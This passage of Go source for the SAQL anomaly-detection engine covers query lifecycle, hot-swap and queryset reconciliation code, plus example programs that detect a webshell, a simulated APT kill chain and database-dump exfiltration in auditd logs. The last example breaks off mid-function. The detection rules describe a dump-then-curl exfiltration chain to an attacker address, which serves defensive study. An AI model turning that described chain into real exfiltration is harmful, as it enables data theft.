	_, err := h.recLocked()
	return err != nil
}

// Kind reports the query's anomaly model family (zero after Close).
func (h *QueryHandle) Kind() ModelKind {
	h.eng.mu.Lock()
	defer h.eng.mu.Unlock()
	rec, err := h.recLocked()
	if err != nil {
		return 0
	}
	return rec.q.Kind
}

// Placement reports the query's shard placement ("" after Close). A swap
// may change it: a hot-swapped query is re-placed by its new semantics.
func (h *QueryHandle) Placement() Placement {
	h.eng.mu.Lock()
	defer h.eng.mu.Unlock()
	rec, err := h.recLocked()
	if err != nil {
		return 0
	}
	return rec.q.Placement()
}

// Source returns the query's current SAQL source ("" after Close).
func (h *QueryHandle) Source() string {
	h.eng.mu.Lock()
	defer h.eng.mu.Unlock()
	rec, err := h.recLocked()
	if err != nil {
		return ""
	}
	return rec.src
}

// Paused reports whether the query is paused (false after Close).
func (h *QueryHandle) Paused() bool {
	h.eng.mu.Lock()
	defer h.eng.mu.Unlock()
	rec, err := h.recLocked()
	if err != nil {
		return false
	}
	return rec.paused
}

// Stats returns the query's runtime counters, aggregated across shard
// replicas on a running engine. After Close it returns ErrQueryClosed.
func (h *QueryHandle) Stats() (QueryStats, error) {
	e := h.eng
	e.mu.Lock()
	_, err := h.recLocked()
	e.mu.Unlock()
	if err != nil {
		return QueryStats{}, err
	}
	// QueryStats runs without e.mu (on a running engine it is a control
	// round-trip); a Close racing in between surfaces as not-found.
	st, ok := e.QueryStats(h.name)
	if !ok {
		return QueryStats{}, ErrQueryClosed
	}
	return st, nil
}

// Pause suspends the query: subsequent events skip it entirely — no pattern
// matching, no state folding, no watermark advance — while all accumulated
// state (open windows, histories, invariant training, partial matches) is
// retained for Resume. Pausing a stateful query stretches its quiet period:
// its watermark freezes, so windows spanning the pause close only after
// Resume feeds it newer events (or at flush). Pause is idempotent; it takes
// effect at a consistent point of the stream on every shard.
func (h *QueryHandle) Pause() error { return h.setPaused(true) }

// Resume re-activates a paused query. Events submitted after Resume flow
// into the state exactly as if the pause had been a gap in that query's
// input.
func (h *QueryHandle) Resume() error { return h.setPaused(false) }

func (h *QueryHandle) setPaused(p bool) error {
	e := h.eng
	e.mu.Lock()
	defer e.mu.Unlock()
	rec, err := h.recLocked()
	if err != nil {
		return err
	}
	if engineState(e.state.Load()) == stateClosed {
		return ErrClosed
	}
	if rec.paused == p {
		return nil
	}
	if rt := e.rt.Load(); rt != nil {
		if _, err := rt.Pause(h.name, p); err != nil {
			return err
		}
	} else {
		e.sched.SetPaused(h.name, p)
	}
	rec.paused = p
	return nil
}

// Update hot-swaps the query's source: the replacement is compiled with the
// handle's compile options and atomically substituted on the owning
// shard(s) at one consistent point of the event stream — alert-for-alert
// equivalent to RemoveQuery+AddQuery executed between two events, with the
// name, handle, labels, and pause state preserved. A pinned query keeps its
// home shard. By default the replacement starts with fresh state; pass
// CarryWindowState to adopt the old query's sliding-window state when the
// window/state layer is unchanged. Master–dependent scheduler groups are
// recomputed: the replacement joins whichever group its constraints now
// place it in. On a compile error the old query keeps running untouched.
func (h *QueryHandle) Update(src string, opts ...UpdateOption) error {
	var uc updateConfig
	for _, o := range opts {
		o(&uc)
	}
	e := h.eng
	e.mu.Lock()
	defer e.mu.Unlock()
	rec, err := h.recLocked()
	if err != nil {
		return err
	}
	if engineState(e.state.Load()) == stateClosed {
		return ErrClosed
	}
	newQ, err := engine.Compile(h.name, src, rec.compile)
	if err != nil {
		return err
	}
	return e.updateLocked(rec, src, newQ, uc.carry)
}

// updateLocked swaps rec's query for newQ (already compiled). Caller holds
// e.mu and has checked the engine is not closed.
func (e *Engine) updateLocked(rec *queryRecord, src string, newQ *engine.Query, mode carryMode) error {
	carry := false
	if mode != carryNever {
		if newQ.CanCarryStateFrom(rec.q) && newQ.Placement() == rec.q.Placement() {
			carry = true
		} else if mode == carryAlways {
			return ErrCarryIncompatible
		}
	}
	if rec.paused {
		newQ.SetPaused(true)
	}
	next := &queryRecord{name: rec.name, src: src, compile: rec.compile, paused: rec.paused}
	if rt := e.rt.Load(); rt != nil {
		if err := rt.Swap(newQ, cloneFor(next), carry); err != nil {
			return err
		}
	} else if err := e.sched.Swap(rec.name, newQ, carry); err != nil {
		return err
	}
	rec.src, rec.q = src, newQ
	return nil
}

// Subscribe opens a push-based alert stream carrying only this query's
// alerts: a filtered fan-out on top of the engine-wide stream, with the
// same buffering and overflow semantics as Engine.Subscribe. The stream
// survives Update (the name is the identity) and ends when the handle or
// the engine closes; Err then reports ErrQueryClosed or ErrClosed.
// Subscribing on an already-closed handle returns a born-closed
// subscription with Err() == ErrQueryClosed.
func (h *QueryHandle) Subscribe(buf int, policy OverflowPolicy) *AlertSubscription {
	e := h.eng
	e.mu.Lock()
	defer e.mu.Unlock()
	rec, err := h.recLocked()
	if err != nil {
		return e.fan.ClosedSubscription(ErrQueryClosed)
	}
	name := h.name
	sub := e.fan.SubscribeFunc(buf, policy, func(a *Alert) bool { return a.Query == name })
	// Drop subscriptions the subscriber already cancelled, so a long-lived
	// handle does not accumulate dead entries across repeated
	// Subscribe/Close cycles.
	live := rec.subs[:0]
	for _, s := range rec.subs {
		if !s.Ended() {
			live = append(live, s)
		}
	}
	rec.subs = append(live, sub)
	return sub
}

// Close retires the query: it is unregistered at a consistent point of the
// stream (open windows are discarded, not flushed), its per-query
// subscriptions end with Err() == ErrQueryClosed, and the name becomes free
// for re-registration (under a new handle). Close is idempotent; closing an
// already-closed handle returns nil. On a closed engine it returns
// ErrClosed.
func (h *QueryHandle) Close() error {
	e := h.eng
	e.mu.Lock()
	rec, err := h.recLocked()
	if err != nil {
		e.mu.Unlock()
		return nil // already closed: idempotent
	}
	subs, err := e.closeLocked(rec)
	e.mu.Unlock()
	for _, sub := range subs {
		e.fan.End(sub, ErrQueryClosed)
	}
	return err
}

// closeLocked unregisters rec, returning the per-query subscriptions for
// the caller to end after releasing e.mu (ending a subscription waits out
// in-flight alert deliveries, which must not happen under the engine lock).
func (e *Engine) closeLocked(rec *queryRecord) ([]*AlertSubscription, error) {
	if engineState(e.state.Load()) == stateClosed {
		return nil, ErrClosed
	}
	if rt := e.rt.Load(); rt != nil {
		if _, err := rt.Remove(rec.name); err != nil {
			return nil, err
		}
	} else if !e.sched.Remove(rec.name) {
		return nil, fmt.Errorf("saql: query %q missing from scheduler", rec.name)
	}
	delete(e.reg, rec.name)
	subs := rec.subs
	rec.subs = nil
	return subs, nil
}

// ---------------------------------------------------------------------------
// Registration
// ---------------------------------------------------------------------------

// Register parses, checks, compiles, and registers a SAQL query under name,
// returning the handle that owns its lifecycle. It may be called before
// Start or while running; in the running state the query is installed at a
// consistent point of the event stream and begins with the next event.
func (e *Engine) Register(name, src string, opts ...QueryOption) (*QueryHandle, error) {
	qc := queryConfig{compile: e.cfg.compile}
	for _, o := range opts {
		o(&qc)
	}
	// Per-query compile overrides still charge string fallbacks to this
	// engine's counter.
	qc.compile.Fallbacks = &e.fallbacks
	q, err := engine.Compile(name, src, qc.compile)
	if err != nil {
		return nil, err
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.registerLocked(name, src, q, qc, false)
}

// registerLocked installs a compiled query. Caller holds e.mu.
func (e *Engine) registerLocked(name, src string, q *engine.Query, qc queryConfig, managed bool) (*QueryHandle, error) {
	if engineState(e.state.Load()) == stateClosed {
		return nil, ErrClosed
	}
	if _, dup := e.reg[name]; dup {
		return nil, fmt.Errorf("saql: duplicate query name %q", name)
	}
	ten := TenantOf(name)
	if !managed {
		// Manual registrations check the tenant's query ceiling here; Apply
		// (managed) validated the whole post-reconciliation shape up front,
		// and re-checking per add would reject sets that add before they
		// remove.
		var have int64
		for n := range e.reg {
			if TenantOf(n) == ten {
				have++
			}
		}
		if err := e.checkQueryQuota(ten, have, 1); err != nil {
			return nil, err
		}
	}
	rec := &queryRecord{name: name, src: src, compile: qc.compile, q: q, managed: managed}
	rec.handle = &QueryHandle{eng: e, name: name, labels: qc.labels}
	if rt := e.rt.Load(); rt != nil {
		if err := rt.Add(q, cloneFor(rec)); err != nil {
			return nil, err
		}
	} else if err := e.sched.Add(q); err != nil {
		return nil, err
	}
	e.reg[name] = rec
	e.touchTenant(ten)
	return rec.handle, nil
}

// Query returns the live handle of a registered query.
func (e *Engine) Query(name string) (*QueryHandle, bool) {
	e.mu.Lock()
	defer e.mu.Unlock()
	rec, ok := e.reg[name]
	if !ok {
		return nil, false
	}
	return rec.handle, true
}

// Queries returns the live handles of every registered query, sorted by
// name.
func (e *Engine) Queries() []*QueryHandle {
	e.mu.Lock()
	defer e.mu.Unlock()
	out := make([]*QueryHandle, 0, len(e.reg))
	for _, rec := range e.reg {
		out = append(out, rec.handle)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].name < out[j].name })
	return out
}

// ---------------------------------------------------------------------------
// Querysets: the declarative layer
// ---------------------------------------------------------------------------

// QuerySet is a named collection of SAQL queries — the unit Engine.Apply
// reconciles against the running registry. Build one from a queryset
// document (ParseQuerySet), from individual queries (NewQuerySet + Add), or
// from a mix of files (ParseQueryOrSet + Merge). A QuerySet is a plain
// value: validated at construction and immutable through Apply.
type QuerySet struct {
	entries []querySetEntry
	// quotas are the document's tenant quota declarations; Apply installs
	// them before reconciling, so a raised quota takes effect for its own
	// document.
	quotas map[string]TenantQuotas
}

type querySetEntry struct {
	name string
	src  string
}

// SetQuotas declares quotas for a tenant, replacing any earlier declaration
// for the same tenant in this set.
func (s *QuerySet) SetQuotas(tenant string, q TenantQuotas) {
	if tenant == "" {
		tenant = DefaultTenant
	}
	if s.quotas == nil {
		s.quotas = map[string]TenantQuotas{}
	}
	s.quotas[tenant] = q
}

// Quotas returns a copy of the set's tenant quota declarations.
func (s *QuerySet) Quotas() map[string]TenantQuotas {
	out := make(map[string]TenantQuotas, len(s.quotas))
	for k, v := range s.quotas {
		out[k] = v
	}
	return out
}

// NewQuerySet returns an empty queryset.
func NewQuerySet() *QuerySet { return &QuerySet{} }

// ParseQuerySet parses and validates a queryset document: any interleaving
// of shared parameter declarations and named queries,
//
//	param threshold = 1000000
//
//	query exfil-volume {
//	  proc p write ip i as e #time(10 min)
//	  state ss { amt := sum(e.amount) } group by p
//	  alert ss.amt > $threshold
//	  return p, ss.amt
//	}
//
// Parameters are substituted into the query bodies at parse time ($name
// references outside string literals and comments), so the set Apply sees
// is ordinary SAQL. Every query is semantically checked; the first error is
// reported with its query's name.
func ParseQuerySet(src string) (*QuerySet, error) {
	doc, err := parser.ParseQuerySetDoc(src)
	if err != nil {
		return nil, err
	}
	qs := &QuerySet{}
	for _, q := range doc.Queries {
		if _, err := sema.Check(q.AST); err != nil {
			return nil, fmt.Errorf("query %q: %w", q.Name, err)
		}
		qs.entries = append(qs.entries, querySetEntry{name: q.Name, src: q.Src})
	}
	for _, t := range doc.Tenants {
		qs.SetQuotas(t.Name, TenantQuotas{
			MaxQueries:    t.Quotas.MaxQueries,
			MaxStateBytes: t.Quotas.MaxStateKB * 1024,
			AlertBudget:   t.Quotas.AlertBudget,
			AlertWindow:   t.Quotas.AlertWindow,
			IngestRate:    t.Quotas.IngestRate,
		})
	}
	return qs, nil
}

// ParseQueryOrSet accepts either a queryset document or a bare SAQL query:
// the file-loading path of tools that treat each *.saql file as one rule
// (named by the file) unless it declares `query`/`param` sections. name
// names the query in the bare case and is ignored for queryset documents.
func ParseQueryOrSet(name, src string) (*QuerySet, error) {
	if parser.LooksLikeQuerySet(src) {
		return ParseQuerySet(src)
	}
	qs := NewQuerySet()
	if err := qs.Add(name, src); err != nil {
		return nil, err
	}
	return qs, nil
}

// Add validates one bare SAQL query and appends it to the set. Duplicate
// names are rejected.
func (s *QuerySet) Add(name, src string) error {
	if err := Validate(src); err != nil {
		return fmt.Errorf("query %q: %w", name, err)
	}
	for _, ent := range s.entries {
		if ent.name == name {
			return fmt.Errorf("saql: duplicate query name %q in set", name)
		}
	}
	s.entries = append(s.entries, querySetEntry{name: name, src: src})
	return nil
}

// Merge appends every query of other to s, rejecting duplicate names. On a
// duplicate nothing is merged: s is left exactly as it was.
func (s *QuerySet) Merge(other *QuerySet) error {
	if other == nil {
		return nil
	}
	seen := make(map[string]bool, len(s.entries)+len(other.entries))
	for _, ent := range s.entries {
		seen[ent.name] = true
	}
	for _, ent := range other.entries {
		if seen[ent.name] {
			return fmt.Errorf("saql: duplicate query name %q in set", ent.name)
		}
		seen[ent.name] = true
	}
	s.entries = append(s.entries, other.entries...)
	for ten, q := range other.quotas {
		s.SetQuotas(ten, q)
	}
	return nil
}

// Len reports how many queries the set holds.
func (s *QuerySet) Len() int { return len(s.entries) }

// Names lists the set's query names in declaration order.
func (s *QuerySet) Names() []string {
	out := make([]string, len(s.entries))
	for i, ent := range s.entries {
		out[i] = ent.name
	}
	return out
}

// Source returns the (parameter-substituted) SAQL source of a named query.
func (s *QuerySet) Source(name string) (string, bool) {
	for _, ent := range s.entries {
		if ent.name == name {
			return ent.src, true
		}
	}
	return "", false
}

// ChangeReport describes what one Engine.Apply reconciliation did. Name
// lists are sorted.
type ChangeReport struct {
	Added     []string // registered fresh
	Updated   []string // source changed: hot-swapped in place
	Unchanged []string // identical source: handle untouched
	Removed   []string // managed queries absent from the set: retired
}

// Empty reports whether the reconciliation changed nothing.
func (r *ChangeReport) Empty() bool {
	return len(r.Added) == 0 && len(r.Updated) == 0 && len(r.Removed) == 0
}

// String renders the report in one line.
func (r *ChangeReport) String() string {
	if r.Empty() {
		return fmt.Sprintf("no changes (%d unchanged)", len(r.Unchanged))
	}
	var parts []string
	add := func(verb string, names []string) {
		if len(names) > 0 {
			parts = append(parts, fmt.Sprintf("%d %s (%s)", len(names), verb, strings.Join(names, ", ")))
		}
	}
	add("added", r.Added)
	add("updated", r.Updated)
	add("removed", r.Removed)
	parts = append(parts, fmt.Sprintf("%d unchanged", len(r.Unchanged)))
	return strings.Join(parts, ", ")
}

// Apply reconciles the queryset against the running registry and returns
// what changed:
//
//   - a query whose registered source is byte-identical is left untouched
//     (its handle — and all its subscriptions and state — survive as-is);
//   - a query registered under the same name with different source is
//     hot-swapped in place via the handle's Update, carrying sliding-window
//     state whenever the window/state layer is unchanged;
//   - an unregistered query is registered fresh;
//   - a query previously applied (managed) but absent from the set is
//     retired, as if its handle's Close had been called.
//
// Every query Apply touches or matches becomes managed, including queries
// first registered manually: applying a set adopts the names it lists.
// Queries registered manually and never listed in a set are left alone.
//
// The whole set is compiled before anything is mutated, so a set with any
// invalid query fails with no changes. ctx cancels the compile phase; the
// mutation phase is brief and runs to completion. Each individual change
// lands at a consistent point of the event stream, but distinct changes may
// land at different points; queries not in the report are never perturbed.
func (e *Engine) Apply(ctx context.Context, set *QuerySet) (*ChangeReport, error) {
	report := &ChangeReport{}
	if set == nil {
		return report, nil
	}
	if ctx == nil {
		ctx = context.Background()
	}

	type addOp struct {
		name, src string
		q         *engine.Query
	}
	type updOp struct {
		rec *queryRecord
		src string
		q   *engine.Query
	}

	e.mu.Lock()
	if engineState(e.state.Load()) == stateClosed {
		e.mu.Unlock()
		return nil, ErrClosed
	}

	// Plan: compile every new or changed query first, so an invalid set
	// aborts before any mutation.
	var adds []addOp
	var upds []updOp
	var unchanged []*queryRecord
	inSet := map[string]bool{}
	for _, ent := range set.entries {
		if err := ctx.Err(); err != nil {
			e.mu.Unlock()
			return nil, err
		}
		inSet[ent.name] = true
		rec := e.reg[ent.name]
		switch {
		case rec == nil:
			q, err := engine.Compile(ent.name, ent.src, e.cfg.compile)
			if err != nil {
				e.mu.Unlock()
				return nil, fmt.Errorf("apply %q: %w", ent.name, err)
			}
			adds = append(adds, addOp{ent.name, ent.src, q})
		case rec.src != ent.src:
			q, err := engine.Compile(ent.name, ent.src, rec.compile)
			if err != nil {
				e.mu.Unlock()
				return nil, fmt.Errorf("apply %q: %w", ent.name, err)
			}
			upds = append(upds, updOp{rec, ent.src, q})
		default:
			unchanged = append(unchanged, rec)
		}
	}
	// Install the document's tenant quota declarations before enforcement,
	// so a quota raised in this very document admits the document's own
	// queries (the hot-raise path). Declarations stick even if the
	// reconciliation below is rejected — they are operator settings, not
	// part of the query plan.
	for ten, q := range set.quotas {
		e.SetTenantQuotas(ten, q)
	}

	var removals []*queryRecord
	for name, rec := range e.reg {
		if rec.managed && !inSet[name] {
			removals = append(removals, rec)
		}
	}
	sort.Slice(removals, func(i, j int) bool { return removals[i].name < removals[j].name })

	// Tenant quota gate: validate the post-reconciliation query counts and
	// the tenants' current live state before mutating anything, so an
	// over-quota set fails whole with *QuotaError and no changes.
	removedNames := make(map[string]bool, len(removals))
	for _, rec := range removals {
		removedNames[rec.name] = true
	}
	finalCount := map[string]int64{}
	for name := range e.reg {
		if !removedNames[name] {
			finalCount[TenantOf(name)]++
		}
	}
	for _, op := range adds {
		finalCount[TenantOf(op.name)]++
	}
	for ten, n := range finalCount {
		if err := e.checkQueryQuota(ten, n, 0); err != nil {
			e.mu.Unlock()
			return nil, err
		}
		if e.TenantQuotas(ten).MaxStateBytes <= 0 {
			continue
		}
		var live int64
		for name := range e.reg {
			if TenantOf(name) == ten && !removedNames[name] {
				live += e.queryStateBytesLocked(name)
			}
		}
		if err := e.checkStateQuota(ten, live); err != nil {
			e.mu.Unlock()
			return nil, err
		}
	}

	// The plan passed compilation and quota checks: only now may the set
	// adopt its unchanged matches (a failed Apply must leave manual
	// registrations unmanaged).
	for _, rec := range unchanged {
		rec.managed = true
		report.Unchanged = append(report.Unchanged, rec.name)
	}

	// Execute. Post-validation failures are practically unreachable (swap
	// and add cannot conflict after the plan); if one occurs the report
	// reflects exactly what was applied before the error.
	var ended []*AlertSubscription
	var firstErr error
	for _, op := range upds {
		if err := e.updateLocked(op.rec, op.src, op.q, carryIfCompatible); err != nil {
			firstErr = fmt.Errorf("apply %q: %w", op.rec.name, err)
			break
		}
		op.rec.managed = true
		report.Updated = append(report.Updated, op.rec.name)
	}
	if firstErr == nil {
		for _, op := range adds {
			if _, err := e.registerLocked(op.name, op.src, op.q, queryConfig{compile: e.cfg.compile}, true); err != nil {
				firstErr = fmt.Errorf("apply %q: %w", op.name, err)
				break
			}
			report.Added = append(report.Added, op.name)
		}
	}
	if firstErr == nil {
		for _, rec := range removals {
			subs, err := e.closeLocked(rec)
			ended = append(ended, subs...)
			if err != nil {
				firstErr = fmt.Errorf("apply: retire %q: %w", rec.name, err)
				break
			}
			report.Removed = append(report.Removed, rec.name)
		}
	}
	e.mu.Unlock()

	for _, sub := range ended {
		e.fan.End(sub, ErrQueryClosed)
	}
	sort.Strings(report.Added)
	sort.Strings(report.Updated)
	sort.Strings(report.Unchanged)
	sort.Strings(report.Removed)
	return report, firstErr
}
