// Invariant learning: the paper's Query 3 scenario end to end, plus live
// rule tuning through the query-handle API.
//
// An invariant-based SAQL query watches which child processes the Apache
// web server spawns. During the training phase (the first ten sliding
// windows) the invariant absorbs the legitimate CGI workers; afterwards it
// is frozen (offline mode), and any child outside the learned set — here a
// webshell spawning /bin/sh — raises an alert naming exactly the violating
// process.
//
// The analyst initially deploys the rule with a lenient threshold (tolerate
// one unknown child per window) and tightens it mid-stream with
// handle.Update(..., CarryWindowState()): the hot-swap preserves the ten
// windows of invariant training, so the tightened rule detects immediately
// instead of re-learning from scratch.
package main

import (
	"context"
	"fmt"
	"log"
	"strings"
	"sync"
	"time"

	"saql"
)

const invariantQuery = `
agentid = "web-1"
proc p1["%apache%"] start proc p2 as evt #time(10 s)
state ss {
  set_proc := set(p2.exe_name)
} group by p1
invariant[10][offline] {
  a := empty_set
  a = a union ss.set_proc
}
alert |ss.set_proc diff a| > 1
return p1, ss.set_proc
`

func main() {
	// The invariant query partitions per-group (per-parent-process) state,
	// so it runs sharded; one submitter preserves the training order.
	eng := saql.New(saql.WithShards(2))
	h, err := eng.Register("apache-children", invariantQuery,
		saql.WithLabel("pack", "web-tier"))
	if err != nil {
		log.Fatal(err)
	}
	if err := eng.Start(context.Background()); err != nil {
		log.Fatal(err)
	}
	sub := h.Subscribe(16, saql.Block)
	var alerts []*saql.Alert
	var collected sync.WaitGroup
	collected.Add(1)
	go func() {
		defer collected.Done()
		for a := range sub.C {
			alerts = append(alerts, a)
			fmt.Printf("ALERT window=%s  %s spawned outside the invariant: %s\n",
				a.EventTime.Format("15:04:05"), a.Values[0].Val, a.Values[1].Val)
		}
	}()
	submit := func(ev *saql.Event) {
		if err := eng.Submit(ev); err != nil {
			log.Fatal(err)
		}
	}

	start := time.Date(2020, 2, 27, 9, 0, 0, 0, time.UTC)
	apache := saql.Process("apache.exe", 3000)
	legit := []string{"php-cgi.exe", "perl.exe", "php-cgi.exe"}

	// Training: 10 windows of normal CGI spawning.
	fmt.Println("--- training phase (10 windows of legitimate children) ---")
	for w := 0; w < 10; w++ {
		at := start.Add(time.Duration(w) * 10 * time.Second)
		child := saql.Process(legit[w%len(legit)], int32(4000+w))
		submit(&saql.Event{Time: at.Add(time.Second), AgentID: "web-1",
			Subject: apache, Op: saql.OpStart, Object: child})
	}

	// Detection: normal window, then the webshell.
	fmt.Println("--- detection phase ---")
	at := start.Add(100 * time.Second)
	submit(&saql.Event{Time: at.Add(time.Second), AgentID: "web-1",
		Subject: apache, Op: saql.OpStart, Object: saql.Process("php-cgi.exe", 4100)})

	// Live tuning: tighten "more than one unknown child" to "any unknown
	// child". CarryWindowState keeps the learned invariant across the
	// hot-swap — without it the rule would restart its 10-window training
	// and miss the webshell below.
	fmt.Println("--- tightening threshold in place (invariant carried) ---")
	if err := h.Update(strings.Replace(invariantQuery, "> 1", "> 0", 1),
		saql.CarryWindowState()); err != nil {
		log.Fatal(err)
	}

	at = start.Add(110 * time.Second)
	submit(&saql.Event{Time: at.Add(time.Second), AgentID: "web-1",
		Subject: apache, Op: saql.OpStart, Object: saql.Process("sh", 4666)}) // webshell!

	// One more window to close the previous ones.
	at = start.Add(120 * time.Second)
	submit(&saql.Event{Time: at.Add(time.Second), AgentID: "web-1",
		Subject: apache, Op: saql.OpStart, Object: saql.Process("perl.exe", 4200)})
	if err := eng.Close(); err != nil {
		log.Fatal(err)
	}
	collected.Wait()

	fmt.Printf("\ntotal alerts: %d (training windows never alert; the frozen "+
		"invariant flags only the webshell)\n", len(alerts))
	if len(alerts) != 1 {
		log.Fatalf("expected exactly 1 alert, got %d", len(alerts))
	}
}
