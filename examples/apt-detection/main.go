// APT detection: the paper's full demonstration (Section III) as a program.
//
// It simulates a small enterprise (two workstations, mail server, web
// server, database server) producing background system monitoring data,
// performs the five-step APT attack — initial compromise, malware
// infection, privilege escalation, penetration into the database server,
// and data exfiltration — and runs the 8 demonstration SAQL queries (five
// rule-based, one invariant-based, one time-series, one outlier-based)
// concurrently over the aggregated event stream, printing alerts as the
// attack unfolds.
package main

import (
	"context"
	"fmt"
	"log"
	"sort"
	"time"

	"saql"
)

func main() {
	start := time.Date(2020, 2, 27, 9, 0, 0, 0, time.UTC)

	// 1. Background activity from the data collection agents.
	wl, err := saql.NewWorkload(saql.WorkloadConfig{
		Hosts: []saql.Host{
			{AgentID: "ws-victim", Kind: saql.Workstation},
			{AgentID: "ws-2", Kind: saql.Workstation},
			{AgentID: "mail-1", Kind: saql.MailServer},
			{AgentID: "web-1", Kind: saql.WebServer},
			{AgentID: "db-1", Kind: saql.DBServer},
		},
		Start:    start,
		Duration: 30 * time.Minute,
		Seed:     42,
	})
	if err != nil {
		log.Fatal(err)
	}
	events := wl.Drain()

	// 2. The APT kill chain, 12 minutes into the day.
	scenario := &saql.AttackScenario{
		Workstation: "ws-victim",
		MailServer:  "mail-1",
		DBServer:    "db-1",
		AttackerIP:  "172.16.0.129",
		Start:       start.Add(12 * time.Minute),
	}
	labeled := scenario.Events()
	fmt.Printf("attack window: %s .. %s (%d malicious events in %d total)\n\n",
		scenario.Start.Format("15:04:05"), scenario.End().Format("15:04:05"),
		len(labeled), len(events)+len(labeled))
	events = append(events, saql.AttackEventsOnly(labeled)...)
	sort.SliceStable(events, func(i, j int) bool { return events[i].Time.Before(events[j].Time) })

	// 3. The 8 demonstration queries, applied as one declarative set on
	// the concurrent sharded runtime (re-Applying the same set later would
	// be a no-op; edits would hot-swap in place).
	eng := saql.New(saql.WithShards(4))
	set := saql.NewQuerySet()
	for _, nq := range scenario.DemoQueries(30*time.Second, 5) {
		if err := set.Add(nq.Name, nq.SAQL); err != nil {
			log.Fatalf("%s: %v", nq.Name, err)
		}
	}
	if rep, err := eng.Apply(context.Background(), set); err != nil {
		log.Fatal(err)
	} else {
		fmt.Println("applied query set:", rep)
	}
	if err := eng.Start(context.Background()); err != nil {
		log.Fatal(err)
	}
	sub := eng.Subscribe(256, saql.Block)
	printed := make(chan struct{})
	go func() {
		defer close(printed)
		for a := range sub.C {
			fmt.Println(a)
		}
	}()

	// 4. Stream the day through the engine in batches.
	started := time.Now()
	const batch = 512
	for i := 0; i < len(events); i += batch {
		end := min(i+batch, len(events))
		if err := eng.SubmitBatch(events[i:end]); err != nil {
			log.Fatal(err)
		}
	}
	if err := eng.Close(); err != nil {
		log.Fatal(err)
	}
	<-printed
	wall := time.Since(started)

	st := eng.Stats()
	fmt.Printf("\n%d events, %d alerts, %d queries in %d scheduler groups, %.0f events/s\n",
		st.Events, st.Alerts, st.Queries, st.QueryGroups, float64(st.Events)/wall.Seconds())
	for _, nq := range scenario.DemoQueries(30*time.Second, 5) {
		qs, _ := eng.QueryStats(nq.Name)
		fmt.Printf("  %-40s hits=%-7d windows=%-5d alerts=%d\n",
			nq.Name, qs.PatternHits, qs.WindowsClosed, qs.Alerts)
	}
}
