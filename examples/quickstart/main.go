// Quickstart: compile one rule-based SAQL query and run it over a handful
// of hand-built system events — the smallest end-to-end use of the public
// API: Register, Start, Submit, Subscribe, Close.
package main

import (
	"context"
	"fmt"
	"log"
	"time"

	"saql"
)

func main() {
	// A rule-based query in the style of the paper's Query 1: a command
	// shell launches the database dump utility, the database writes the
	// dump file, and another process reads it back.
	const query = `
proc p1["%cmd.exe"] start proc p2["%osql.exe"] as evt1
proc p3["%sqlservr.exe"] write file f1["%backup1.dmp"] as evt2
proc p4 read file f1 as evt3
with evt1 -> evt2 -> evt3
return distinct p1, p2, p3, f1, p4
`
	// Register returns the query's handle: the owner of its lifecycle
	// (Pause/Resume, Update hot-swap, per-query Subscribe, Close).
	eng := saql.New()
	h, err := eng.Register("exfil-prep", query)
	if err != nil {
		log.Fatal(err)
	}

	// Start the concurrent runtime and subscribe to this query's alerts.
	if err := eng.Start(context.Background()); err != nil {
		log.Fatal(err)
	}
	sub := h.Subscribe(16, saql.Block)
	done := make(chan struct{})
	go func() {
		defer close(done)
		for alert := range sub.C {
			fmt.Println(alert)
		}
	}()

	// Build the event sequence the query describes, with an unrelated
	// event mixed in.
	t0 := time.Now().UTC()
	cmd := saql.Process("cmd.exe", 4120)
	osql := saql.Process("osql.exe", 4121)
	sqlservr := saql.Process("sqlservr.exe", 1680)
	malware := saql.Process("sbblv.exe", 5200)
	dump := saql.File(`C:\db\backup1.dmp`)

	events := []*saql.Event{
		{Time: t0, AgentID: "db-1", Subject: cmd, Op: saql.OpStart, Object: osql},
		{Time: t0.Add(1 * time.Second), AgentID: "db-1", Subject: saql.Process("chrome.exe", 9), Op: saql.OpWrite,
			Object: saql.NetConn("10.0.0.5", 50000, "8.8.8.8", 443), Amount: 1500}, // noise
		{Time: t0.Add(2 * time.Second), AgentID: "db-1", Subject: sqlservr, Op: saql.OpWrite, Object: dump, Amount: 50 << 20},
		{Time: t0.Add(3 * time.Second), AgentID: "db-1", Subject: malware, Op: saql.OpRead, Object: dump, Amount: 50 << 20},
	}

	if err := eng.SubmitBatch(events); err != nil {
		log.Fatal(err)
	}

	// Close drains the queue, flushes open windows, and ends the
	// subscription, so the printer goroutine terminates.
	if err := eng.Close(); err != nil {
		log.Fatal(err)
	}
	<-done

	stats := eng.Stats()
	fmt.Printf("\nprocessed %d events, %d alert(s)\n", stats.Events, stats.Alerts)
}
