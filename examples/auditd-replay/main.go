// Auditd replay: run SAQL queries over a real Linux audit log. The
// checked-in sample.log is a raw auditd capture from a database host on
// which an interactive shell dumps the database and ships it to an external
// address — the paper's data-exfiltration scenario, expressed as kernel
// audit record groups (SYSCALL + CWD + PATH + SOCKADDR + EOE).
//
// Two queries watch the stream: a multievent rule query that matches the
// dump-read-connect chain, and a stateful aggregation query that totals the
// bytes sent to the exfiltration address. The program exits non-zero unless
// both fire, so CI running `go run ./examples/auditd-replay` asserts the
// whole decode → submit → detect pipeline end-to-end.
package main

import (
	"bytes"
	"context"
	_ "embed"
	"fmt"
	"log"

	"saql"
)

//go:embed sample.log
var sampleLog []byte

const exfilChain = `
agentid = "db-1"
proc p1["%mysqldump"] write file f1["%dump.sql"] as evt1
proc p2["%curl"] read file f1 as evt2
proc p2 connect ip i1[dstip="172.16.0.129"] as evt3
with evt1 -> evt2 -> evt3
return distinct p1, f1, p2, i1`

const exfilVolume = `
agentid = "db-1"
proc p write ip i1[dstip="172.16.0.129"] as evt #time(10 s)
state ss {
  total := sum(evt.amount)
}
group by p
alert ss.total > 100000
return p, ss.total`

func main() {
	alerts := map[string]int{}
	eng := saql.New(saql.WithAlertHandler(func(a *saql.Alert) {
		alerts[a.Query]++
		fmt.Println(a)
	}))
	for name, src := range map[string]string{"exfil-chain": exfilChain, "exfil-volume": exfilVolume} {
		if _, err := eng.Register(name, src); err != nil {
			log.Fatalf("%s: %v", name, err)
		}
	}
	if err := eng.Start(context.Background()); err != nil {
		log.Fatal(err)
	}

	// The audit log carries no hostname (no node= prefix), so the source
	// stamps every event with the agent id the queries constrain on.
	src, err := saql.NewSource(bytes.NewReader(sampleLog),
		saql.WithFormat("auditd"),
		saql.WithSourceAgent("db-1"),
		saql.WithDecodeErrorHandler(func(err error) { fmt.Println("decode:", err) }),
	)
	if err != nil {
		log.Fatal(err)
	}
